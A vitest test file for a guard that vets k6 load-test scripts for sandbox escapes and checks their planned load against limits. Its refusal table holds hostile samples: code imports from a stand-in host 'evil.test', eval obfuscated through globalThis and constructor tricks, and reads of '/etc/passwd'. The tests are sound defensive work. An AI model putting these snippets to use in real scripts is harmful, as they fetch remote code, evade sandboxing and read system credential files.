import { describe, expect, it } from "vitest";
import type { LoadPreview } from "../../contract/load-preview.ts";
import type { GuardDecision } from "../../contract/policy.ts";
import { admitScript } from "./admit-script.ts";

const preview: LoadPreview = {
  schemaVersion: 1,
  peakVus: 10,
  peakRatePerSecond: null,
  durationMs: 60_000,
  maxDurationMs: 90_000,
  iterations: null,
  requests: null,
  writes: null,
  hosts: [],
  data: [],
  scenarios: [],
  timeline: [],
  vuHours: 1,
  judged: null,
};
const enforcement: GuardDecision["enforcement"] = {
  pins: {},
  allowedAddresses: [],
  blockedRanges: [],
  blockedHostnames: [],
  maxVus: 50,
  maxDurationMs: 600_000,
  maxRatePerSecond: null,
  allowedSockets: [],
  maxConnections: 1000,
  maxRequests: null,
  maxWrites: null,
  setupTimeoutMs: 60_000,
  teardownTimeoutMs: 60_000,
  summaryTimeoutMs: 10_000,
};
const asPlanned = { maxVus: 10, totalDurationMs: 90_000 };

const good = `import http from "k6/http";
import { check, sleep } from "k6";
import { SharedArray } from "k6/data";
import { draw } from "./lib/draw.js";
const users = new SharedArray("users", () => JSON.parse(open("./data/users.json")));
const photo = open("./files/photo.jpg", "b");
export const options = { scenarios: { browse: { executor: "ramping-vus", hosts: 1 } }, "discardResponseBodies": true };
export function setup() { return { photo: photo.byteLength, hosts: { a: 1 }, eval: 1, open: true }; }
class Answer { constructor(response) { this.response = response; } get open() { return this.response.open; } }
export function browse({ token = "x", ...rest }, [first] = []) {
  outer: for (const key of Object.keys(rest)) { if (!key) continue outer; else break outer; }
  try { check(new Answer(http.get(\`http://127.0.0.1/\${token}\`)), { ok: (answer) => answer.open }); } catch (problem) { console.log(problem, first); }
  sleep(draw(users) * Math.PI + Number(__ENV.PERF_AGENT_RUN_ID ?? 0) + exec());
}
function exec() { return arguments.length; }
export { browse as default };
`;
const draw = "export function draw(list) { return list.length; }\n";

function texts(source: Record<string, string>): string[] {
  return admitScript({ source, inspected: asPlanned, preview, enforcement }).map(
    ({ code, text }) => `${String(code)} ${text}`,
  );
}

describe("the lint", () => {
  it("has nothing against what generated scripts do", () => {
    expect(texts({ "main.js": good, "lib/draw.js": draw, "data/users.json": "[not code" })).toEqual([]);
  });

  it.each<[string, string, string]>([
    ["a browser", 'import { browser } from "k6/browser";', 'main.js:1 imports "k6/browser"'],
    ["gRPC", 'import grpc from "k6/net/grpc";', 'imports "k6/net/grpc"'],
    ["WebSockets", 'import { WebSocket } from "k6/websockets";', 'imports "k6/websockets"'],
    ["the file system", 'import { open } from "k6/experimental/fs";', 'imports "k6/experimental/fs"'],
    ["an extension", 'import x from "k6/x/exec";', 'imports "k6/x/exec"'],
    ["code from elsewhere", 'import x from "https://evil.test/x.js";', 'imports "https://evil.test/x.js"'],
    ["a re-export from elsewhere", 'export * from "https://evil.test/x.js";', "evil.test"],
    ["a named re-export from elsewhere", 'export { x } from "https://evil.test/x.js";', "evil.test"],
    ["a file outside the bundle", 'import x from "../../x.js";', 'imports "../../x.js"'],
    ["a file that is not there", 'import x from "./lib/other.js";', "no file of the bundle"],
    ["an absolute file", 'import x from "/etc/x.js";', 'imports "/etc/x.js"'],
    ["require", 'const http = require("k6/http");', 'uses "require"'],
    [
      "an import while running",
      'export default async () => { await import("./lib/draw.js"); };',
      "imports while it runs",
    ],
    ["import.meta", "export const here = import.meta.url;", "import.meta"],
    ["eval", 'eval("1");', 'uses "eval"'],
    ["eval by another name", "const run = eval;", 'uses "eval"'],
    ["a function from text", 'new Function("1")();', 'uses "Function"'],
    ["a function from text by its constructor", '(() => 1).constructor("1")();', '"constructor"'],
    ["the same in brackets", '(() => 1)["constructor"]("1")();', '"constructor"'],
    ["the global object", 'globalThis["ev" + "al"]("1");', 'uses "globalThis"'],
    ["any unknown global", "new WebSocket('ws://x');", 'uses "WebSocket"'],
    ["shorthand references", "export const all = { eval };", 'uses "eval"'],
    ["an exported global", "export { eval };", "does not parse"],
    ["opening a system file", 'open("/etc/passwd");', 'opens "/etc/passwd"'],
    ["opening above the bundle", 'open("../secret");', 'opens "../secret"'],
    ["opening a URL", 'open("file:///etc/passwd");', "opens"],
    ["opening what is computed", 'open("./" + __ENV.FILE);', 'uses "open" other than'],
    ["open handed on", "const read = open;", 'uses "open" other than'],
    ["hosts", "export const options = { hosts: { 'a.test': '10.0.0.1' } };", 'sets the option "hosts"'],
    ["hosts in quotes", "export const options = { 'hosts': {} };", 'sets the option "hosts"'],
    ["own block lists", "export const options = { blacklistIPs: [] };", 'sets the option "blacklistIPs"'],
    ["DNS", "export const options = { dns: {} };", 'sets the option "dns"'],
    ["spread options", "const more = {}; export const options = { ...more };", "not written out"],
    ["computed options", 'export const options = { ["ho" + "sts"]: {} };', "not written out"],
    ["options from a call", "export const options = Object.assign({}, { hosts: {} });", "not written out"],
    ["options changed later", "export const options = {}; options.hosts = {};", "changes its options"],
    ["options changed deep down", "export const options = {}; options.scenarios.a = {};", "changes its options"],
    ["handleSummary", "export function handleSummary() { return {}; }", "handleSummary"],
    ["handleSummary as a constant", "export const handleSummary = () => ({});", "handleSummary"],
    ["handleSummary by another name", "function f() {} export { f as handleSummary };", "handleSummary"],
    ["what does not parse", "export default function (", "does not parse"],
  ])("refuses %s", (_, text, message) => {
    const found = texts({ "main.js": text, "lib/draw.js": draw });
    expect(found.join("\n")).toContain(message);
    expect(found.every((line) => line.startsWith("PA_GUARD_SCRIPT main.js"))).toBe(true);
  });

  it.each<[string, string]>([
    ["a parameter", "export function f(open, { require }) { return open(require); }"],
    [
      "a constant of the same function",
      "export function f() { const read = () => open; const open = 1; return read; }",
    ],
    ["a var further down", "export function f() { return require; { var require = 1; } }"],
    [
      "a loop",
      "for (const open of []) console.log(open); for (let require = 0; require < 1; require += 1) console.log(require);",
    ],
    ["a caught error", "try { console.log(1); } catch (Function) { console.log(Function); }"],
    ["a class", "const a = class Function { f() { return Function; } }; console.log(a);"],
    ["a function by its own name", "console.log(function open() { return open; });"],
    ["a case", "switch (1) { case 1: { let require = 1; console.log(require); } default: }"],
  ])("takes a name for a variable that is declared by %s", (_, text) => {
    expect(texts({ "main.js": text })).toEqual([]);
  });

  it.each<[string, string]>([
    ["after a block", "{ let require = 1; console.log(require); } require('x');"],
    ["beside a function", "function f(require) { return require; } f(require);"],
    ["beside a function in a block", "{ function require() { return 1; } require(); } require('x');"],
    ["after a loop", "for (const require of []) console.log(require); require('x');"],
    ["beside a named function", "console.log(function require() { return 1; }); require('x');"],
    ["beside a var of a function", "function f() { var require = 1; return require; } f(); require('x');"],
  ])("knows a global again %s", (_, text) => {
    expect(texts({ "main.js": text })).toEqual(['PA_GUARD_SCRIPT main.js:1 uses "require"']);
  });

  it("looks into every file and tells the line", () => {
    expect(
      texts({ "main.js": 'import "./lib/draw.js";', "lib/draw.js": `${draw}\neval("1");\nrequire("x");\n` }),
    ).toEqual(['PA_GUARD_SCRIPT lib/draw.js:3 uses "eval"', 'PA_GUARD_SCRIPT lib/draw.js:4 uses "require"']);
  });

  it("resolves imports from where they stand", () => {
    expect(
      texts({
        "main.js": 'import "./lib/a.js";',
        "lib/a.js": 'import "../lib/b.js"; open("../data/x.json");',
        "lib/b.js": "",
      }),
    ).toEqual([]);
  });
});

describe("the load of the script", () => {
  it.each<[string, Partial<typeof asPlanned>, string[]]>([
    ["as planned", {}, []],
    ["within the tolerance", { totalDurationMs: 91_000 }, []],
    ["more virtual users than planned", { maxVus: 11 }, ["refuse script PA_GUARD_SCRIPT"]],
    ["fewer virtual users than planned", { maxVus: 9 }, ["warn script null"]],
    ["longer than planned", { totalDurationMs: 91_001 }, ["refuse script PA_GUARD_SCRIPT"]],
    ["shorter than planned", { totalDurationMs: 10_000 }, ["warn script null"]],
    [
      "above the cap of virtual users",
      { maxVus: 51 },
      ["refuse limits PA_GUARD_LIMIT", "refuse script PA_GUARD_SCRIPT"],
    ],
    [
      "above the cap of time",
      { totalDurationMs: 600_001 },
      ["refuse limits PA_GUARD_LIMIT", "refuse script PA_GUARD_SCRIPT"],
    ],
    ["no number at all", { maxVus: NaN }, ["refuse limits PA_GUARD_LIMIT", "warn script null"]],
  ])("%s", (_, inspected, expected) => {
    const reasons = admitScript({ source: {}, inspected: { ...asPlanned, ...inspected }, preview, enforcement });
    expect(reasons.map(({ outcome, rule, code }) => `${outcome} ${rule} ${String(code)}`)).toEqual(expected);
  });
});
